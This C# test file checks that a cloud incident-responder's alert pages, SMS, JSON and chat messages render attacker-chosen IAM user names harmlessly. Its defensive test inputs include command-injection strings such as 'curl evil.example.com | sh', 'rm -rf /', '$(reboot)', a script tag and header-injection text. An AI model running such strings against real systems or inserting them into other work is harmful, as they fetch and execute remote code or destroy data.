using System.Text.Json;
using System.Text.RegularExpressions;
using FsCheck;
using FsCheck.Fluent;
using Responder.Containment;
using Responder.Containment.Actions;
using Responder.Decisions;
using Responder.Detections;
using Responder.Events;
using Responder.Facts;
using Responder.Paging;
using Responder.Settings;
using Responder.Tests.Support;
using static Responder.Testing.EventBuilder;

namespace Responder.Tests.Notifications;

/// <summary>
/// Tests every rendering of the page: whatever the names are, the text follows SNS's rules, and no name has an effect on its reader.
/// </summary>
public sealed partial class AlertTests
{
    public static TheoryData<string> HostileNames { get; } =
    [
        "mallory\nSubject: [LOW] nothing", "\u202Egnp.exe", "\u001b[2J\u001b[31mred", "a`*_~b", "<!channel>", "<script>alert(1)</script>",
        "@here",
        "[link](https://example.com)", "{{inject}}", "$(reboot)", "'; rm -rf / #", "ünïcödé-名前", "\u0000", "\ud83d\ude00", "x y\u2028z",
        new string('a', 2048), "…", "",
    ];

    [Fact]
    public void The_page_reads_as_promised()
    {
        var page = AlertText.Render(AlertFor("mallory"));
        Assert.Equal(
            """
            CRITICAL: AdministratorAccess attached to user mallory (contained).
            """, page[..page.IndexOf('\n')]);
        var order = (
            (string[])[
                "WHAT WAS DONE", "done:     PutUserPermissionsBoundary", "WHO, TO WHOM, WHERE, WHEN",
                "arn:aws:iam::123456789012:user/alice", "203.0.113.11",
            "MFA:", "target:", "us-east-1", "2026-03-04 09:01:07Z, 3 s before this page", "WHAT TO DO NOW",
            "responder release /security/incidents/2026-03-04/event-1", "LINKS", "Incident event-1"])
                .Select(text => page.IndexOf(text, StringComparison.Ordinal)).ToArray();
        Assert.DoesNotContain(-1, order);
        Assert.Equal(order.Order(), order);
    }

    [Fact]
    public void The_subject_reads_as_promised() =>
        Assert.Equal("[CRITICAL] AdministratorAccess attached to user mallory (contained) 123456789012", AlertFor("mallory").Subject);

    [Theory]
    [MemberData(nameof(HostileNames))]
    public void A_hostile_name_is_inert_in_every_rendering(string name)
    {
        var alert = AlertFor(name);
        AssertSubject(alert.Subject);
        Assert.EndsWith("(contained) 123456789012", alert.Subject, StringComparison.Ordinal);

        var text = AlertText.Render(alert);
        Assert.DoesNotContain(text, static c => char.IsControl(c) && c != '\n');
        Assert.DoesNotMatch(Invisible(), text);
        if (name.Contains('\n')) Assert.DoesNotContain("\nSubject:", text, StringComparison.Ordinal);

        var sms = AlertSms.Render(alert);
        Assert.True(sms.Length <= 140 && sms.All(static c => c is >= ' ' and < (char)127), sms);

        using var json = JsonDocument.Parse(AlertJson.Render(alert));
        Assert.Equal("responder.alert/1", json.RootElement.GetProperty("schema").GetString());
        Assert.True(json.RootElement.GetProperty("contained").GetBoolean());

        using var chat = JsonDocument.Parse(AlertChat.Render(alert));
        var content = chat.RootElement.GetProperty("content");
        Assert.DoesNotContain('<', content.GetProperty("description").GetString()!);
        var outsideCode = CodeSpan().Replace(content.GetProperty("description").GetString()!, "");
        Assert.DoesNotContain(outsideCode, static c => c is '[' or '@' or '_' or '~' or '#');
        Assert.DoesNotContain("here", content.GetProperty("title").GetString()!, StringComparison.Ordinal);
        Assert.Equal(alert.DedupKey, chat.RootElement.GetProperty("metadata").GetProperty("threadId").GetString());
    }

    [Fact]
    public void Property_no_name_breaks_the_subject_or_the_sms() => Prop.ForAll(ArbMap.Default.ArbFor<string?>(), name =>
    {
        var alert = AlertFor(name ?? "");
        AssertSubject(alert.Subject);
        Assert.True(AlertSms.Render(alert).Length <= 140);
        Assert.All(AlertJson.Render(alert), static c => Assert.True(c is >= ' ' and < (char)127));
    }).QuickCheckThrowOnFailure();

    [Fact]
    public void A_command_cannot_be_broken_out_of()
    {
        var alert = AlertFor("x'; curl evil.example.com | sh; '", contained: false);
        var page = AlertText.Render(alert);
        Assert.Contains("""--user-name 'x'\''; curl evil.example.com | sh; '\''' --permissions-boundary""", page, StringComparison.Ordinal);
    }

    [Fact]
    public void A_failed_containment_shouts()
    {
        var alert = AlertFor(
            "mallory",
            step: new ContainmentStep(
                "PutUserPermissionsBoundary", "mallory", StepResult.Failed, "PutUserPermissionsBoundary: AccessDenied: no"));
        Assert.Contains("(containment FAILED)", alert.Subject, StringComparison.Ordinal);
        var page = AlertText.Render(alert);
        Assert.Contains(
            "FAILED:   PutUserPermissionsBoundary on mallory (PutUserPermissionsBoundary: AccessDenied: no)", page,
            StringComparison.Ordinal);
        Assert.Contains(
            "Contain by hand what failed:  aws iam put-user-permissions-boundary --user-name mallory", page, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("cn-north-1", "aws-cn", "console.amazonaws.cn")]
    [InlineData("us-gov-west-1", "aws-us-gov", "console.amazonaws-us-gov.com")]
    public void Links_and_commands_follow_the_partition(string region, string partition, string host)
    {
        var identity = User("alice");
        identity["arn"] = $"arn:{partition}:iam::123456789012:user/alice";
        var alert = AlertFor(
            AdminAttachedTo("mallory", $"arn:{partition}:iam::aws:policy/AdministratorAccess").With("awsRegion", region).By(identity),
            contained: false);
        var page = AlertText.Render(alert);
        Assert.Contains(host, page, StringComparison.Ordinal);
        Assert.Contains($"arn:{partition}:iam::aws:policy/AWSDenyAll", page, StringComparison.Ordinal);
    }

    [Fact]
    public void A_page_about_a_user_says_nothing_about_roles_and_a_page_about_a_role_nothing_about_users()
    {
        var user = AlertText.Render(AlertFor("mallory", contained: false));
        var role = AlertText.Render(AlertFor(AdminAttachedToRole("Deploy")));

        Assert.Contains("the access keys of user mallory", user, StringComparison.Ordinal);
        Assert.DoesNotContain("sessions of role", user, StringComparison.Ordinal);
        Assert.Contains("Revoke the open sessions of role Deploy", role, StringComparison.Ordinal);
        Assert.DoesNotContain("access keys of user", role, StringComparison.Ordinal);
    }

    [Fact]
    public void The_undo_command_stands_in_the_step_that_asks_for_it_and_only_while_there_is_something_to_undo()
    {
        const string Undo = "aws iam detach-user-policy --user-name mallory --policy-arn arn:aws:iam::aws:policy/AdministratorAccess";
        Assert.Contains(
            "If nobody planned it, take the policy away: " + Undo, AlertText.Render(AlertFor("mallory", contained: false)),
            StringComparison.Ordinal);
        Assert.DoesNotContain("take the policy away", AlertText.Render(AlertFor("mallory")), StringComparison.Ordinal);
    }

    [Fact]
    public void A_name_that_looks_like_a_placeholder_stays_a_name() =>
        Assert.Contains("access keys of user '{actor}'", AlertText.Render(AlertFor("{actor}", contained: false)), StringComparison.Ordinal);

    [Fact]
    public void The_page_says_once_why_nothing_was_contained() =>
        Assert.Contains(
            "\n  not contained: observe mode.\n", AlertText.Render(AlertFor("mallory", contained: false)), StringComparison.Ordinal);

    [Fact]
    public void The_page_of_every_sample_is_whole()
    {
        foreach (var sample in Responder.Tests.Detections.Sample.All)
        {
            var e = sample.Parse();
            var decision = new Decider(new ResponderOptions(), ContainmentActions.All)
                .Decide(e, KnownFacts.None(DetectionCatalog.Default.Detect(e), CalledAt), EventBuilder.Account);
            if (decision.Strongest is null) continue;

            var page = AlertText.Render(new Alert(ContainmentResult.Nothing(decision), CalledAt, null, null) { HomeRegion = "us-east-1" });
            Assert.DoesNotMatch(UnfilledPlaceholder(), page);
            Assert.DoesNotMatch(EmptyOrDoubled(), page);
            Assert.DoesNotContain("command below", page, StringComparison.Ordinal);
            Assert.DoesNotContain("command above", page, StringComparison.Ordinal);
            Assert.DoesNotContain("undo command", page, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Page_and_JSON_of_an_Insight_name_both_averages_and_what_stands_behind_them()
    {
        var e = EventParser.Parse(File.ReadAllBytes(Path.Combine(Repository.Events, "insight.started", "fires.json"))).Event!;
        var decision = new Decider(new ResponderOptions(), ContainmentActions.All)
            .Decide(e, KnownFacts.None(DetectionCatalog.Default.Detect(e), CalledAt), EventBuilder.Account);
        var alert = new Alert(ContainmentResult.Nothing(decision), CalledAt, null, null) { HomeRegion = "us-east-1" };
        using var json = JsonDocument.Parse(AlertJson.Render(alert));
        var finding = json.RootElement.GetProperty("findings")[0];
        var written = finding.GetProperty("title").GetString() + " "
            + string.Join(' ', finding.GetProperty("reasons").EnumerateArray().Select(static r => r.GetString()));

        foreach (var text in (string[])[AlertText.Render(alert), written])
        {
            Assert.Contains("12.4 a minute, baseline 0.002083", text, StringComparison.Ordinal);
            Assert.Contains(
                "userIdentityArn arn:aws:sts::123456789012:assumed-role/Batch/nightly (12.4 a minute", text, StringComparison.Ordinal);
            Assert.Contains("userAgent Boto3/1.38.0 (12.4 a minute", text, StringComparison.Ordinal);
        }
    }

    private static void AssertSubject(string subject)
    {
        Assert.InRange(subject.Length, 1, 99);
        Assert.All(subject, static c => Assert.True(c is >= ' ' and < (char)127));
        Assert.True(char.IsAsciiLetterOrDigit(subject[0]) || char.IsPunctuation(subject[0]));
    }

    private static Alert AlertFor(string name, bool contained = true, ContainmentStep? step = null) =>
        AlertFor(AdminAttachedTo(name).Id("event-1"), contained, step);

    private static Alert AlertFor(EventBuilder builder, bool contained = true, ContainmentStep? step = null)
    {
        var e = EventParser.Parse(builder.Build()).Event!;
        var facts = KnownFacts.None(DetectionCatalog.Default.Detect(e), CalledAt.AddSeconds(2)) with
        {
            Target = Read<PrincipalState>.Of(new PrincipalState(true, null, null) { Id = "AIDAMALLORYEXAMPLE" }),
        };
        var decision = new Decider(contained ? new ResponderOptions() : new ResponderOptions
        {
            Mode = Mode.Observe,
        }, ContainmentActions.All).Decide(e, facts, EventBuilder.Account);
        var steps = step ?? new ContainmentStep("PutUserPermissionsBoundary", decision.Target?.Name ?? "?", StepResult.Succeeded)
        {
            Subject = DenyAll,
        };
        var result = decision.Action == DecisionAction.Contain
            ? new ContainmentResult(decision, [steps], Priors.OfUser("", [Admin]))
            : ContainmentResult.Nothing(decision);
        if (decision.Target is null) // an empty user name: there is nobody to contain, but the page must still be sound
            result = new ContainmentResult(decision with { Action = DecisionAction.Contain }, [steps], Priors.OfUser("", []));
        return new Alert(result, CalledAt.AddSeconds(3), "/security/incidents/2026-03-04/event-1", null) { HomeRegion = "us-east-1" };
    }

    [GeneratedRegex(@"\{(account|region|target|actor|resource|undo|role|user)\}")]
    private static partial Regex UnfilledPlaceholder();

    /// <summary>A label without a value, a sentence with two periods, or a reason given twice.</summary>
    [GeneratedRegex(@"(?m)^  [a-zA-Z ]+: *$|(?<!\.)\.\.(\s|$)|not contained: not contained")]
    private static partial Regex EmptyOrDoubled();

    [GeneratedRegex(@"[\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069\ufeff]")]
    private static partial Regex Invisible();

    [GeneratedRegex("`[^`]*`|\\*[A-Z]+\\*|\\*\\([a-zA-Z ]+\\)\\*")]
    private static partial Regex CodeSpan();
}
